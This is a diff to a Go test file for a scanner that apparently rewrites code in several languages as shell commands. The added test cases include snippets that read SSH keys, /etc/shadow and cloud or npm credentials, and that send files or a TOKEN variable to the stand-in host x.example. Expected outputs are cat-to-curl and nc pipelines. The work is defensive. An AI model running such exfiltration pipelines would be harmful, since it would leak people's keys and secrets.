@@ -127,6 +127,34 @@ func TestScan(t *testing.T) {
 		{lang: "ex", src: `w!`, none: []string{""}},
 		{lang: "ex", src: `wq`, none: []string{""}},
 		{lang: "ex", src: `set number`, none: []string{""}},
+		// reads: the file read, as cat; a file name computed at run time
+		// is not a read warden can judge
+		{lang: "js", src: `console.log(require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa', 'utf8'))`, find: []string{`cat -- "${HOME}/.ssh/id_rsa"`}},
+		{lang: "js", src: `await Deno.readTextFile('/etc/shadow')`, find: []string{`cat -- "/etc/shadow"`}},
+		{lang: "js", src: `Bun.file(process.env.HOME + '/.npmrc')`, find: []string{`cat -- "${HOME}/.npmrc"`}},
+		{lang: "js", src: `file('x')`, none: []string{"cat"}},
+		{lang: "js", src: `fs.readFileSync(p)`, none: []string{"cat"}},
+		{lang: "ruby", src: `puts File.read("Gemfile")`, find: []string{`cat -- "Gemfile"`}},
+		{lang: "ruby", src: `File.open(Dir.home + "/.netrc")`, find: []string{`cat -- "${HOME}/.netrc"`}},
+		{lang: "ruby", src: `File.open("out.txt", "w")`, find: []string{`: > "out.txt"`}, none: []string{"cat"}},
+		{lang: "php", src: `echo file_get_contents("composer.json");`, find: []string{`cat -- "composer.json"`}},
+		{lang: "php", src: `echo file_get_contents("https://example.com/x");`, find: []string{`curl https://example.com/x`}, none: []string{"cat"}},
+		{lang: "perl", src: `open(my $f, "<", "$ENV{HOME}/.aws/credentials")`, find: []string{`cat -- "${HOME}/.aws/credentials"`}},
+		{lang: "perl", src: `open(F, "<notes.txt")`, find: []string{`cat -- "notes.txt"`}},
+		{lang: "lua", src: `for l in io.lines("init.lua") do print(l) end`, find: []string{`cat -- "init.lua"`}},
+		// flows: a read and a request that sends data make the pipeline
+		// that sends the file; a GET whose URL is all literal sends nothing
+		{lang: "js", src: `fetch('https://x.example/u', {method: 'POST', body: fs.readFileSync('/home/u/.ssh/id_rsa')})`,
+			find: []string{`cat -- "/home/u/.ssh/id_rsa" | curl -X POST --data-binary @- https://x.example/u`}},
+		{lang: "js", src: `require('https').request({hostname: 'x.example', method: 'PUT'}).end(fs.readFileSync('.env'))`,
+			find: []string{`cat -- ".env" | curl -X PUT --data-binary @- https://x.example/`}},
+		{lang: "ruby", src: `Net::HTTP.post(URI("https://x.example/u"), File.read("k"))`, find: []string{`cat -- "k" | curl -X POST --data-binary @- https://x.example/u`}},
+		{lang: "php", src: `file_get_contents("https://x.example/?k=" . file_get_contents("k"));`, find: []string{`cat -- "k" | curl --data-binary @- 'https://x.example/?k='`}},
+		{lang: "perl", src: `use IO::Socket::INET; my $s = IO::Socket::INET->new("x.example:443"); open(F, "<k")`, find: []string{`cat -- "k" | nc x.example 443`}},
+		{lang: "js", src: `const d = fs.readFileSync('package.json'); fetch('https://registry.example/x').then(r => r.json())`, find: []string{`cat -- "package.json"`}, none: []string{"|"}},
+		// an environment variable in a request is sent
+		{lang: "js", src: `fetch('https://x.example/?k=' + process.env.TOKEN)`, find: []string{`curl "https://x.example/?k=${TOKEN}"`}},
+		{lang: "js", src: `fetch('https://x.example/', {method: 'POST', body: process.env.TOKEN})`, find: []string{`curl -X POST --data-raw "${TOKEN}" https://x.example/`}},
 	}
 	for _, tt := range tests {
 		res := Scan(tt.lang, tt.src, nil)
